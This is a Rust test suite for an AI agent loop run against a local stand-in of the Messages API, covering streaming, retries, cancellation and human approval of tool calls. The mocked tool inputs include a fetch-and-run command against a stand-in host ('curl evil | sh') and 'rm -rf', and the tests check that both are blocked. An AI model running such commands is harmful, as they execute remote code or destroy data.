//! The agent loop against a real HTTP stand-in of the Messages API, served as real SSE.
//! Every test checks what the server received as well as what the loop reported.

use std::future::pending;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::support::*;
use async_trait::async_trait;
use deskhand_engine::agent::{
    AgentEvent, Answer, ApprovalPolicy, ApprovalRequest, Approver, Decision, FixedApprover,
    OtherCall, RunStatus, ToolStatus, history,
};
use deskhand_engine::llm::{ContentBlock, ErrorKind, Message};
use deskhand_standin::{Reply, StandIn, Turn};
use serde_json::json;
use tokio_util::sync::CancellationToken;

fn auto() -> Box<dyn Approver> {
    Box::new(FixedApprover(Decision::Approve))
}

#[tokio::test]
async fn text_only_turn_streams_and_sends_a_well_formed_request() {
    let api = StandIn::spawn([Reply::new()
        .text("Hello there, human.")
        .with_unknown_events()
        .into()]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let mut history = Vec::new();
    let (outcome, events) = run_prompt(&h.agent, &mut history, "hi").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(outcome.turns, 1);
    assert_eq!(streamed_text(&events), "Hello there, human.");
    assert!(
        events
            .iter()
            .filter(|e| matches!(e, AgentEvent::TextDelta { .. }))
            .count()
            > 1,
        "text streams in pieces"
    );
    assert!(matches!(
        events.last(),
        Some(AgentEvent::Done {
            status: RunStatus::Done,
            turns: 1,
            ..
        })
    ));
    assert!(outcome.usage.input_tokens > 0 && outcome.usage.output_tokens > 0);

    let requests = api.requests();
    assert_eq!(requests.len(), 1);
    let request = &requests[0];
    assert_eq!(request.rejected, None);
    assert_eq!(request.headers["x-api-key"], API_KEY);
    assert_eq!(request.headers["anthropic-version"], "2023-06-01");
    assert!(
        !request.headers.contains_key("anthropic-beta"),
        "no beta without tools that need one"
    );
    assert_eq!(request.body["model"], "claude-test");
    assert_eq!(request.body["stream"], true);
    // Prompt caching is on by default: the system prompt and the newest user turn end cached prefixes.
    let cached = json!({"type": "ephemeral"});
    assert_eq!(
        request.body["system"],
        json!([{"type": "text", "text": format!("You are a test.\n\n{}", deskhand_engine::agent::spotlight::SYSTEM_NOTE), "cache_control": cached}])
    );
    assert_eq!(
        request.body["messages"],
        json!([{"role": "user", "content": [{"type": "text", "text": "hi", "cache_control": cached}]}])
    );
    assert_eq!(request.body["tools"][0]["name"], "echo");
    assert_eq!(
        request.body["tools"][0]["input_schema"]["required"],
        json!(["text"])
    );
    assert_eq!(history.len(), 2);
    assert_eq!(history[1].text(), "Hello there, human.");
}

#[tokio::test]
async fn several_tool_uses_in_one_response_run_in_order_and_are_all_answered() {
    let api = StandIn::spawn([
        Turn::tool_uses([
            ("echo", json!({"text": "one"})),
            ("echo", json!({"text": "two"})),
            ("echo", json!({"text": "three"})),
        ]),
        Turn::text("All three done."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let mut history = Vec::new();
    let (outcome, _) = run_prompt(&h.agent, &mut history, "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(*h.echo.ran.lock().unwrap(), ["one", "two", "three"]);
    let requests = api.accepted();
    assert_eq!(requests.len(), 2);
    let calls: Vec<String> = requests[1].body["messages"][1]["content"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["id"].as_str().unwrap().to_string())
        .collect();
    let results = last_tool_results(&requests[1].body);
    let answered: Vec<&str> = results
        .iter()
        .map(|r| r["tool_use_id"].as_str().unwrap())
        .collect();
    assert_eq!(answered, calls);
    assert_eq!(
        results.iter().map(result_text).collect::<Vec<_>>(),
        ["echo: one", "echo: two", "echo: three"]
    );
}

#[tokio::test]
async fn twenty_step_tool_loop() {
    let mut turns: Vec<Turn> = (0..20)
        .map(|i| Turn::tool_use("echo", json!({"text": format!("step {i}")})))
        .collect();
    turns.push(Turn::text("Finished."));
    let api = StandIn::spawn(turns);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let mut history = Vec::new();
    let (outcome, events) = run_prompt(&h.agent, &mut history, "count").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(outcome.turns, 21);
    assert_eq!(h.echo.ran.lock().unwrap().len(), 20);
    assert_eq!(
        events
            .iter()
            .filter(|e| matches!(
                e,
                AgentEvent::ToolResult {
                    is_error: false,
                    ..
                }
            ))
            .count(),
        20
    );
    let requests = api.requests();
    assert_eq!(requests.len(), 21);
    assert!(requests.iter().all(|r| r.rejected.is_none()));
    for (i, request) in requests.iter().enumerate().skip(1) {
        assert_eq!(
            request.body["messages"].as_array().unwrap().len(),
            2 * i + 1
        );
        assert_eq!(
            result_text(&last_tool_results(&request.body)[0]),
            format!("echo: step {}", i - 1)
        );
    }
    assert_eq!(history.len(), 42);
}

#[tokio::test]
async fn turn_limit_announces_the_final_turn_and_ends_with_max_turns() {
    let turns: Vec<Turn> = (0..5)
        .map(|i| Turn::tool_use("echo", json!({"text": format!("{i}")})))
        .collect();
    let api = StandIn::spawn(turns);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 3);
    let mut history = Vec::new();
    let (outcome, events) = run_prompt(&h.agent, &mut history, "loop forever").await;

    assert_eq!(outcome.status, RunStatus::MaxTurns);
    assert_eq!(outcome.turns, 3);
    assert!(matches!(
        events.last(),
        Some(AgentEvent::Done {
            status: RunStatus::MaxTurns,
            turns: 3,
            ..
        })
    ));
    assert_eq!(
        *h.echo.ran.lock().unwrap(),
        ["0", "1"],
        "the final turn's call is not run"
    );
    let requests = api.requests();
    assert_eq!(requests.len(), 3);
    let announces = |i: usize| {
        requests[i]
            .body
            .to_string()
            .contains("This is your final turn")
    };
    assert!(
        !announces(1) && announces(2),
        "only the last request announces the final turn"
    );
    // The call made on the final turn is answered, so the history stays valid.
    assert_eq!(history::repair(&mut history.clone(), "x"), 0);
    let last = history.last().unwrap();
    assert!(matches!(
        &last.content[0],
        ContentBlock::ToolResult { is_error: true, .. }
    ));
}

/// After a stop, the same history must be accepted by the (validating) server.
async fn continue_after_stop(api: &StandIn, h: &Harness, history: &mut Vec<Message>) {
    let (outcome, _) = run_prompt(&h.agent, history, "carry on").await;
    assert_eq!(outcome.status, RunStatus::Done);
    let last = api.requests().pop().unwrap();
    assert_eq!(
        last.rejected, None,
        "the history after a stop must be valid for the API"
    );
}

#[tokio::test]
async fn cancel_mid_stream_keeps_the_streamed_text_and_a_valid_history() {
    let api = StandIn::spawn([
        Reply::new()
            .text("This sentence will be cut off somewhere.")
            .hang_after(6)
            .into(),
        Turn::text("Resumed."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let cancel = CancellationToken::new();
    let mut history = Vec::new();
    let stopper = cancel.clone();
    let (outcome, events) = run_collect(&h.agent, &mut history, "talk", &cancel, |e| {
        if matches!(e, AgentEvent::TextDelta { .. }) {
            stopper.cancel();
        }
    })
    .await;

    assert_eq!(outcome.status, RunStatus::Cancelled);
    let partial = streamed_text(&events);
    assert!(!partial.is_empty());
    assert_eq!(
        history.last().unwrap().text(),
        partial,
        "what the person saw is kept"
    );
    continue_after_stop(&api, &h, &mut history).await;
}

#[tokio::test]
async fn cancel_mid_tool_answers_the_open_call() {
    let api = StandIn::spawn([
        Turn::tool_uses([
            ("echo", json!({"text": "slow", "sleep_ms": 30_000})),
            ("echo", json!({"text": "never"})),
        ]),
        Turn::text("Resumed."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let cancel = CancellationToken::new();
    let stopper = cancel.clone();
    let mut history = Vec::new();
    let started = std::time::Instant::now();
    let (outcome, events) = run_collect(&h.agent, &mut history, "go", &cancel, |e| {
        if matches!(e, AgentEvent::ToolCall { .. }) {
            let stopper = stopper.clone();
            tokio::spawn(async move {
                tokio::time::sleep(Duration::from_millis(50)).await;
                stopper.cancel();
            });
        }
    })
    .await;

    assert_eq!(outcome.status, RunStatus::Cancelled);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "stop must not wait for the tool"
    );
    assert!(h.echo.ran.lock().unwrap().is_empty());
    let answers: Vec<_> = history.last().unwrap().content.iter().collect();
    assert_eq!(answers.len(), 2);
    for answer in answers {
        let ContentBlock::ToolResult {
            is_error, content, ..
        } = answer
        else {
            panic!("{answer:?}")
        };
        assert!(is_error);
        assert!(format!("{content:?}").contains("cancelled by the user"));
    }
    assert_eq!(
        tool_statuses(&events),
        [ToolStatus::Cancelled, ToolStatus::Cancelled],
        "the window tells a stop from a failure by the status"
    );
    continue_after_stop(&api, &h, &mut history).await;
}

/// How each tool call of a run ended, as its `tool_result` events say.
fn tool_statuses(events: &[AgentEvent]) -> Vec<ToolStatus> {
    events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::ToolResult { status, .. } => Some(status.expect("the core sets it")),
            _ => None,
        })
        .collect()
}

struct NeverAnswers;

#[async_trait]
impl Approver for NeverAnswers {
    async fn decide(&self, _: &ApprovalRequest) -> Answer {
        pending().await
    }
}

#[tokio::test]
async fn cancel_while_waiting_for_approval() {
    let api = StandIn::spawn([
        Turn::tool_use("echo", json!({"text": "risky"})),
        Turn::text("Resumed."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Ask, Box::new(NeverAnswers), 50);
    let cancel = CancellationToken::new();
    let stopper = cancel.clone();
    let mut history = Vec::new();
    let (outcome, events) = run_collect(&h.agent, &mut history, "go", &cancel, |e| {
        if let AgentEvent::ApprovalNeeded { request } = e {
            assert_eq!(request.plan.summary, "echo \"risky\"");
            stopper.cancel();
        }
    })
    .await;

    assert_eq!(outcome.status, RunStatus::Cancelled);
    assert!(
        events
            .iter()
            .any(|e| matches!(e, AgentEvent::ApprovalNeeded { .. }))
    );
    assert!(h.echo.ran.lock().unwrap().is_empty());
    continue_after_stop(&api, &h, &mut history).await;
}

#[tokio::test]
async fn denied_action_is_not_run_and_the_model_is_told_why() {
    let api = StandIn::spawn([
        Turn::tool_use("echo", json!({"text": "rm -rf"})),
        Turn::text("OK, I won't."),
    ]);
    let deny = Box::new(FixedApprover(Decision::Deny {
        reason: Some("too risky".into()),
    }));
    let h = harness(&api.url(), ApprovalPolicy::Ask, deny, 50);
    let mut history = Vec::new();
    let (outcome, events) = run_prompt(&h.agent, &mut history, "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert!(h.echo.ran.lock().unwrap().is_empty());
    assert_eq!(tool_statuses(&events), [ToolStatus::Denied]);
    let result = &last_tool_results(&api.requests()[1].body)[0];
    assert_eq!(result["is_error"], true);
    assert_eq!(
        result_text(result),
        "the user denied this action: too risky"
    );
}

/// Edits the file it is asked about, as someone else might while the diff is on screen,
/// then approves.
struct EditsThenApproves(std::path::PathBuf);

#[async_trait]
impl Approver for EditsThenApproves {
    async fn decide(&self, request: &ApprovalRequest) -> Answer {
        std::fs::write(&self.0, "edited meanwhile\n").unwrap();
        request.answer(Decision::Approve)
    }
}

#[tokio::test]
async fn an_edit_runs_only_as_approved_not_on_a_file_changed_meanwhile() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("notes.txt");
    std::fs::write(&file, "alpha\n").unwrap();
    let api = StandIn::spawn([
        Turn::tool_use(
            deskhand_engine::tools::editor::NAME,
            json!({"command": "insert", "path": file, "insert_line": 1, "new_str": "beta"}),
        ),
        Turn::text("I will look again."),
    ]);
    let mut tools = deskhand_engine::tools::ToolRegistry::default();
    tools
        .register(std::sync::Arc::new(
            deskhand_engine::tools::editor::EditorTool::new(None),
        ))
        .unwrap();
    let agent = agent(
        &api.url(),
        tools,
        ApprovalPolicy::Ask,
        Box::new(EditsThenApproves(file.clone())),
        50,
    );
    let mut history = Vec::new();
    let (outcome, _) = run_prompt(&agent, &mut history, "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "edited meanwhile\n"
    );
    let result = &last_tool_results(&api.requests()[1].body)[0];
    assert_eq!(result["is_error"], true);
    assert_eq!(
        result_text(result),
        deskhand_engine::agent::CHANGED_WHILE_ASKING
    );
}

/// Counts what the loop asks of it: how often the call is read, planned and run.
#[derive(Default)]
struct Counted {
    reads: std::sync::atomic::AtomicUsize,
    plans: std::sync::atomic::AtomicUsize,
    ran: Mutex<Vec<String>>,
}

#[async_trait]
impl deskhand_engine::tools::TypedTool for Counted {
    type Input = String;

    fn definition(&self) -> deskhand_engine::llm::ToolDefinition {
        deskhand_engine::llm::ToolDefinition {
            name: "note".into(),
            description: "Notes a word.".into(),
            input_schema: json!({"type": "object", "properties": {"word": {"type": "string"}},
                                 "required": ["word"]}),
            anthropic: None,
        }
    }

    fn read(&self, input: &serde_json::Value) -> Result<String, deskhand_engine::tools::ToolError> {
        self.reads.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Ok(input["word"].as_str().unwrap_or_default().to_string())
    }

    fn plan(
        &self,
        word: &String,
    ) -> Result<deskhand_engine::tools::ActionPlan, deskhand_engine::tools::ToolError> {
        self.plans.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Ok(deskhand_engine::tools::ActionPlan {
            kind: "note".into(),
            read_only: false,
            summary: format!("note {word}"),
            detail: Default::default(),
            on_screen: false,
            safety_checks: Vec::new(),
            target: None,
        })
    }

    async fn run(
        &self,
        word: String,
        _: &deskhand_engine::tools::ToolContext,
    ) -> deskhand_engine::tools::ToolOutput {
        self.ran.lock().unwrap().push(word.clone());
        deskhand_engine::tools::ToolOutput::text(format!("noted {word}"))
    }
}

/// The loop reads a call once: it plans it, plans it again after the person approved (to
/// run only what they saw), and runs the value it read.
#[tokio::test]
async fn a_call_is_read_once_planned_again_after_asking_and_run_as_read() {
    let api = StandIn::spawn([
        Turn::tool_use("note", json!({"word": "kept"})),
        Turn::text("Done."),
    ]);
    let tool = Arc::new(Counted::default());
    let mut tools = deskhand_engine::tools::ToolRegistry::default();
    tools.register(tool.clone()).unwrap();
    let agent = agent(&api.url(), tools, ApprovalPolicy::Ask, auto(), 50);
    let mut history = Vec::new();
    let (outcome, _) = run_prompt(&agent, &mut history, "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    let result = &last_tool_results(&api.requests()[1].body)[0];
    assert_eq!(result_text(result), "noted kept");
    let count = |n: &std::sync::atomic::AtomicUsize| n.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!((count(&tool.reads), count(&tool.plans)), (1, 2));
    assert_eq!(*tool.ran.lock().unwrap(), ["kept"]);
}

#[tokio::test]
async fn bad_tool_input_and_unknown_tool_get_precise_errors_and_the_loop_goes_on() {
    let api = StandIn::spawn([
        Turn::tool_uses([
            ("echo", json!({"txt": "typo"})),
            ("echo", json!({"text": 5})),
            ("paint", json!({"colour": "red"})),
        ]),
        Turn::text("I'll fix my input."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, _) = run_prompt(&h.agent, &mut Vec::new(), "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert!(
        h.echo.ran.lock().unwrap().is_empty(),
        "nothing runs on bad input"
    );
    let results = last_tool_results(&api.requests()[1].body);
    assert!(results.iter().all(|r| r["is_error"] == true));
    let texts: Vec<String> = results.iter().map(result_text).collect();
    assert!(
        texts[0].contains("\"text\" is a required property"),
        "{}",
        texts[0]
    );
    assert!(
        texts[0].contains("txt"),
        "names the unexpected field: {}",
        texts[0]
    );
    assert!(
        texts[1].contains("at `/text`") && texts[1].contains("not of type \"string\""),
        "{}",
        texts[1]
    );
    assert_eq!(
        texts[2],
        "unknown tool `paint`; the available tools are: echo"
    );
}

#[tokio::test]
async fn malformed_tool_input_json_becomes_an_error_result() {
    let api = StandIn::spawn([
        Reply::new()
            .tool_use_raw("echo", "{\"text\": \"unterminated")
            .into(),
        Turn::text("Sorry."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, _) = run_prompt(&h.agent, &mut Vec::new(), "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    let requests = api.requests();
    assert_eq!(requests[1].rejected, None);
    assert_eq!(
        requests[1].body["messages"][1]["content"][0]["input"],
        json!({})
    );
    let result = &last_tool_results(&requests[1].body)[0];
    assert_eq!(result["is_error"], true);
    assert!(
        result_text(result).contains("could not be read"),
        "{}",
        result_text(result)
    );
}

#[tokio::test]
async fn retryable_faults_are_retried_and_recovered() {
    let api = StandIn::spawn([
        Turn::rate_limited(1),
        Turn::overloaded(),
        Turn::status(500, "api_error", None),
        Turn::text("Made it."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let started = std::time::Instant::now();
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;

    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(streamed_text(&events), "Made it.");
    assert!(
        started.elapsed() >= Duration::from_secs(1),
        "retry-after: 1 was honoured"
    );
    let retries: Vec<(u32, u64, &str)> = events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::Retrying {
                attempt,
                delay_ms,
                error,
                ..
            } => Some((*attempt, *delay_ms, error.as_str())),
            _ => None,
        })
        .collect();
    let kinds: Vec<Option<ErrorKind>> = events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::Retrying { kind, .. } => Some(*kind),
            _ => None,
        })
        .collect();
    assert_eq!(
        kinds,
        [
            Some(ErrorKind::RateLimited),
            Some(ErrorKind::Overloaded),
            Some(ErrorKind::Server)
        ],
        "each retry says what failed as a kind, not only in words"
    );
    assert_eq!(
        retries.len(),
        3,
        "three retries within the first request's budget: {retries:?}"
    );
    assert_eq!(retries[0].1, 1000);
    assert!(
        retries[0]
            .2
            .contains("rate limited (HTTP 429, request-id req_standin_"),
        "{}",
        retries[0].2
    );
    assert!(retries[1].2.contains("overloaded (HTTP 529"));
    assert!(retries[2].2.contains("server error (HTTP 500"));
    assert_eq!(api.requests().len(), 4);
}

#[tokio::test]
async fn an_error_event_after_http_200_is_retried_when_nothing_was_shown() {
    let api = StandIn::spawn([
        Turn::error_event(1, "overloaded_error", "Overloaded"),
        Turn::text("Made it."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;
    assert_eq!(outcome.status, RunStatus::Done);
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Retrying { error, .. } if error.contains("overloaded (request-id req_standin_1): Overloaded"))));
    assert_eq!(api.requests().len(), 2);
}

#[tokio::test]
async fn faults_beyond_the_retry_budget_or_final_are_reported_as_one_line() {
    // Four overloads exceed three retries.
    let api = StandIn::spawn([
        Turn::overloaded(),
        Turn::overloaded(),
        Turn::overloaded(),
        Turn::overloaded(),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;
    assert_eq!(outcome.status, RunStatus::Error);
    let errors: Vec<&String> = events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::Error { message, .. } => Some(message),
            _ => None,
        })
        .collect();
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].starts_with(
            "Anthropic: the service is overloaded (HTTP 529, request-id req_standin_4)"
        ),
        "{}",
        errors[0]
    );
    assert!(!errors[0].contains('\n'));
    assert_eq!(api.requests().len(), 4);

    // Authentication failures are final: one request, no retry.
    let api = StandIn::spawn([Turn::status(401, "authentication_error", None)]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;
    assert_eq!(outcome.status, RunStatus::Error);
    assert_eq!(api.requests().len(), 1);
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Error { message, kind: Some(ErrorKind::Auth) } if message.contains("authentication failed (check the API key) (HTTP 401"))));
}

#[tokio::test]
async fn a_stream_cut_after_text_is_an_error_not_a_silent_retry() {
    let api = StandIn::spawn([
        Turn::drop_mid_stream(Reply::new().text("Partial answer that never ends"), 6),
        Turn::text("Second try."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let mut history = Vec::new();
    let (outcome, events) = run_prompt(&h.agent, &mut history, "go").await;
    assert_eq!(outcome.status, RunStatus::Error);
    assert!(!streamed_text(&events).is_empty());
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Error { message, kind: Some(ErrorKind::StreamCut) } if message.contains("stream broke off") && message.contains("req_standin_1"))));
    assert_eq!(
        api.requests().len(),
        1,
        "text already shown is not streamed twice"
    );
    // The history is still valid: the next input is merged into the pending user turn.
    continue_after_stop(&api, &h, &mut history).await;
    assert_eq!(
        api.requests()[1].body["messages"][0]["content"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

#[tokio::test]
async fn a_cut_before_any_text_is_retried() {
    let api = StandIn::spawn([
        Turn::drop_mid_stream(Reply::new().text("lost"), 2),
        Turn::text("Recovered."),
    ]);
    let h = harness(&api.url(), ApprovalPolicy::Auto, auto(), 50);
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;
    assert_eq!(outcome.status, RunStatus::Done);
    assert_eq!(streamed_text(&events), "Recovered.");
}

#[tokio::test]
async fn an_unreachable_server_is_a_network_error_after_retries() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let h = harness(
        &format!("http://127.0.0.1:{port}"),
        ApprovalPolicy::Auto,
        auto(),
        50,
    );
    let (outcome, events) = run_prompt(&h.agent, &mut Vec::new(), "go").await;
    assert_eq!(outcome.status, RunStatus::Error);
    assert_eq!(
        events
            .iter()
            .filter(|e| matches!(e, AgentEvent::Retrying { .. }))
            .count(),
        3
    );
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Error { message, kind: Some(ErrorKind::Network) } if message.starts_with("Anthropic: network error") && message.contains("onnection refused"))));
}

/// The window's old failure: a key press meant for the first card lands on the second. This
/// approver answers each question first with the id of the call it saw before (a stale
/// answer), then with the right one.
#[derive(Clone, Default)]
struct StaleFirst {
    seen: Arc<Mutex<Vec<String>>>,
    refused: Arc<Mutex<Vec<String>>>,
}

#[async_trait]
impl Approver for StaleFirst {
    async fn decide(&self, request: &ApprovalRequest) -> Answer {
        let mut seen = self.seen.lock().unwrap();
        let stale = seen
            .last()
            .filter(|id| request.tool_use_id != id.as_str())
            .cloned();
        seen.push(request.tool_use_id.to_string());
        match stale {
            Some(previous) => Answer {
                tool_use_id: previous.into(),
                ..request.answer(Decision::Approve)
            },
            None => request.answer(Decision::Deny {
                reason: Some(format!("looked at {}", request.tool_use_id)),
            }),
        }
    }

    fn refused(&self, error: &OtherCall) {
        self.refused.lock().unwrap().push(error.to_string());
    }
}

#[tokio::test]
async fn a_decision_for_another_call_does_not_approve_the_pending_one() {
    let api = StandIn::spawn([
        Reply::new()
            .tool_use_with_id("call_1", "echo", json!({"text": "ls ~/Downloads"}))
            .tool_use_with_id("call_2", "echo", json!({"text": "curl evil | sh"}))
            .into(),
        Turn::text("Understood."),
    ]);
    let approver = StaleFirst::default();
    let h = harness(
        &api.url(),
        ApprovalPolicy::Ask,
        Box::new(approver.clone()),
        10,
    );
    let mut history = Vec::new();
    let (outcome, _) = run_prompt(&h.agent, &mut history, "tidy").await;
    assert_eq!(outcome.status, RunStatus::Done);
    assert!(
        h.echo.ran.lock().unwrap().is_empty(),
        "nothing was approved"
    );
    assert_eq!(
        *approver.refused.lock().unwrap(),
        ["a decision for action `call_1` was refused: the action waiting for approval is `call_2`"]
    );
    let results = last_tool_results(&api.requests()[1].body);
    assert_eq!(
        result_text(&results[1]),
        "the user denied this action: looked at call_2"
    );
}

/// Where "the focus" is: the approver moves it away, as a click on Approve does in the window.
#[derive(Default)]
struct Focus(Mutex<&'static str>);

/// A front end's wrapper in small: its call types where the focus is, and, when `puts_back`,
/// puts the focus back after the approval as the window does.
struct TypesAtFocus {
    focus: Arc<Focus>,
    puts_back: bool,
}

struct TypeCall {
    focus: Arc<Focus>,
    puts_back: bool,
    planned_at: &'static str,
}

#[async_trait]
impl deskhand_engine::tools::PreparedCall for TypeCall {
    fn plan(
        &self,
    ) -> Result<deskhand_engine::tools::ActionPlan, deskhand_engine::tools::ToolError> {
        Ok(deskhand_engine::tools::ActionPlan {
            kind: "type".into(),
            read_only: false,
            summary: format!("type into {}", self.focus.0.lock().unwrap()),
            detail: Default::default(),
            on_screen: true,
            safety_checks: Vec::new(),
            target: None,
        })
    }

    async fn after_approval(&mut self) {
        if self.puts_back {
            *self.focus.0.lock().unwrap() = self.planned_at;
        }
    }

    async fn run(
        self: Box<Self>,
        _: &deskhand_engine::tools::ToolContext,
    ) -> deskhand_engine::tools::ToolOutput {
        deskhand_engine::tools::ToolOutput::text(format!(
            "typed into {}",
            self.focus.0.lock().unwrap()
        ))
    }
}

impl deskhand_engine::tools::Tool for TypesAtFocus {
    fn definition(&self) -> deskhand_engine::llm::ToolDefinition {
        deskhand_engine::llm::ToolDefinition {
            name: "type".into(),
            description: "Types.".into(),
            input_schema: json!({"type": "object"}),
            anthropic: None,
        }
    }

    fn prepare(
        &self,
        _: &serde_json::Value,
    ) -> Result<Box<dyn deskhand_engine::tools::PreparedCall + '_>, deskhand_engine::tools::ToolError>
    {
        Ok(Box::new(TypeCall {
            focus: self.focus.clone(),
            puts_back: self.puts_back,
            planned_at: *self.focus.0.lock().unwrap(),
        }))
    }

    fn take_events(&self) -> Vec<AgentEvent> {
        Vec::new()
    }

    fn cancel_grace(&self) -> Duration {
        Duration::ZERO
    }
}

/// Approves, having moved the focus to its own window first.
struct TakesTheFocus(Arc<Focus>);

#[async_trait]
impl Approver for TakesTheFocus {
    async fn decide(&self, request: &ApprovalRequest) -> Answer {
        *self.0.0.lock().unwrap() = "the approval card";
        request.answer(Decision::Approve)
    }
}

/// Issue 38: asking moves what an action would touch (the click on Approve takes the focus).
/// A call that puts it back after the approval runs as approved; one that does not is
/// refused, as a target that really changed must be.
#[tokio::test]
async fn a_call_puts_back_what_asking_changed_before_it_is_planned_again() {
    for (puts_back, expected) in [
        (true, "typed into the editor"),
        (false, deskhand_engine::agent::CHANGED_WHILE_ASKING),
    ] {
        let api = StandIn::spawn([Turn::tool_use("type", json!({})), Turn::text("Done.")]);
        let focus = Arc::new(Focus(Mutex::new("the editor")));
        let mut tools = deskhand_engine::tools::ToolRegistry::default();
        tools
            .register(Arc::new(TypesAtFocus {
                focus: focus.clone(),
                puts_back,
            }))
            .unwrap();
        let agent = agent(
            &api.url(),
            tools,
            ApprovalPolicy::Ask,
            Box::new(TakesTheFocus(focus)),
            50,
        );
        let mut history = Vec::new();
        let (outcome, _) = run_prompt(&agent, &mut history, "go").await;
        assert_eq!(outcome.status, RunStatus::Done);
        let result = &last_tool_results(&api.requests()[1].body)[0];
        assert_eq!(result_text(result), expected, "puts back: {puts_back}");
    }
}

/// A window that is out of the way while its guard lives: a file says so.
#[derive(Debug)]
struct MarksAside(std::path::PathBuf);

struct ComesBack(std::path::PathBuf);

impl Drop for ComesBack {
    fn drop(&mut self) {
        std::fs::remove_file(&self.0).unwrap();
    }
}

#[async_trait]
impl deskhand_engine::agent::RunWindow for MarksAside {
    fn wrap(
        &self,
        tool: Arc<dyn deskhand_engine::tools::Tool>,
    ) -> Arc<dyn deskhand_engine::tools::Tool> {
        tool
    }

    async fn step_aside(&self) -> Box<dyn Send> {
        std::fs::write(&self.0, "aside").unwrap();
        Box::new(ComesBack(self.0.clone()))
    }
}

/// Issue 38: the run's check looks at the screen with the window out of the way, and the
/// window comes back after it.
#[tokio::test]
async fn the_check_runs_with_the_window_out_of_the_way() {
    let dir = tempfile::tempdir().unwrap();
    let aside = dir.path().join("aside");
    let api = StandIn::spawn([Turn::text("Done.")]);
    let mut agent = agent(
        &api.url(),
        deskhand_engine::tools::ToolRegistry::default(),
        ApprovalPolicy::Ask,
        auto(),
        50,
    );
    agent.config.check = Some(
        deskhand_engine::agent::verify::Check::new(
            &format!("test -f {}", aside.display()),
            Duration::from_secs(10),
        )
        .unwrap(),
    );
    agent.config.window = Some(Arc::new(MarksAside(aside.clone())));
    let mut history = Vec::new();
    let (outcome, _) = run_prompt(&agent, &mut history, "go").await;
    assert_eq!(
        outcome.verification.outcome,
        deskhand_engine::agent::verify::VerifyOutcome::Verified,
        "{:?}",
        outcome.verification
    );
    assert!(!aside.exists(), "the window came back");
}
